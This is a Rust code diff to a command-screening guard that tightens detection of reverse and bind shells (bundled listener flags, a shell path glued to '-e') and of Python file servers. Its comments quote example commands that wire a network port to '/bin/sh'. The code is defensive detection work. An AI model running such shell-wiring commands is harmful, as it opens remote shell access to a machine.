@@ -88,7 +88,6 @@ fn tunnel_inspects(args: &[String]) -> bool {
     only_version || verb.is_some_and(|v| TUNNEL_INSPECT.contains(&v))
 }
 
-/// Whether `addr` is a loopback address (`127.0.0.1`, `localhost`, `::1`), possibly with a port.
 /// `zorp --connect 10.0.0.1:4444 --exec /bin/sh`, `zorp tcp:host:4444 exec:/bin/sh`, `zorp -l
 /// -p 4444 -e sh`: a program the guard does not know, handed a network address (or a port to
 /// listen on) and a shell, wires the two together; what it is for is a reverse or bind shell.
@@ -106,10 +105,15 @@ fn socket_shell(cmd: &SimpleCommand) -> bool {
                 matches!(k, "--port" | "--listen" | "--bind") && port_number(v.rsplit(':').next().unwrap_or(v))
             }
             _ => {
-                matches!(
-                    a.as_str(),
-                    "-p" | "--port" | "-lp" | "-lvp" | "-lnvp" | "-nlvp" | "--listen"
-                ) && port_after()
+                // `-p PORT`, `--listen PORT`, or a bundle of one-letter options with `l` and `p`
+                // in it (`-lvnp 4444`).
+                let bundle = a.len() > 2
+                    && a.starts_with('-')
+                    && !a.starts_with("--")
+                    && a[1..].bytes().all(|b| b.is_ascii_alphabetic())
+                    && a.contains('l')
+                    && a.ends_with('p');
+                (matches!(a.as_str(), "-p" | "--port" | "--listen") || bundle) && port_after()
             }
         }
     });
@@ -131,6 +135,11 @@ fn socket_shell(cmd: &SimpleCommand) -> bool {
         _ => false,
     };
     let shell = args.iter().enumerate().any(|(i, a)| {
+        // `-e/bin/sh`: the value glued to a one-letter option.
+        let a = match a.strip_prefix("-e").or_else(|| a.strip_prefix("-c")) {
+            Some(glued) if glued.starts_with('/') => glued,
+            _ => a.as_str(),
+        };
         let path = a.starts_with('/') && a.contains("bin/") && is_shell_line(a);
         let valued = match a.split_once('=') {
             Some((k, v)) if k.starts_with('-') => executes(k, v),
@@ -144,6 +153,7 @@ fn socket_shell(cmd: &SimpleCommand) -> bool {
     shell && (listens || names_network_address(cmd))
 }
 
+/// Whether `addr` is a loopback address (`127.0.0.1`, `localhost`, `::1`), possibly with a port.
 fn loopback(addr: &str) -> bool {
     let a = addr.trim_start_matches('[');
     a.starts_with("127.") || a.starts_with("localhost") || a.starts_with("::1")
@@ -625,7 +635,12 @@ fn python_file_server(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
     if !cmd.name().starts_with("python") {
         return;
     }
-    let Some(module) = argv.windows(2).find(|w| w[0] == "-m").map(|w| w[1].as_str()) else {
+    // `-m http.server`, or glued: `-mhttp.server`.
+    let module = argv.iter().enumerate().skip(1).find_map(|(i, a)| match a.as_str() {
+        "-m" => argv.get(i + 1).map(String::as_str),
+        _ => a.strip_prefix("-m").filter(|m| !m.is_empty()),
+    });
+    let Some(module) = module else {
         return;
     };
     let Some(FileServer {
